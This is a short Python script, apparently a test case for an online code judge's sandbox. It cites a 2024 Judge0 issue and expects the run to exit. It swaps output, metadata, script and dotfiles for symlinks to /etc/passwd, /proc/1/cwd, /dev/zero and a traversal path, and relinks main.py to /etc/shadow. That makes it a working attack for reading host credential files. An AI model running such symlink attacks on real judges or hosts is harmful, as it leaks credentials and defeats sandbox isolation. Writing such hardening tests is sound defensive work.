"""Leaves links in the place of every file that a judge's host has been known to open or give away (Judge0, 2024)."""
# expect: EXITED
import os

names = ("stdout", "stderr", "stdin", "metadata", "meta", "run.sh", "compile.sh", "script.py", "box",
         "results.json", "submission.py", "core", ".bashrc", ".profile", ".netrc", "main.pyc")
for number, name in enumerate(names):
    target = ("/etc/passwd", "/proc/1/cwd", "/dev/zero", "../../../../../../etc/hosts")[number % 4]
    os.symlink(target, name)
os.unlink("main.py")
os.symlink("/etc/shadow", "main.py")
os.unlink("breach.py")
os.symlink("/dev/zero", "breach.py")
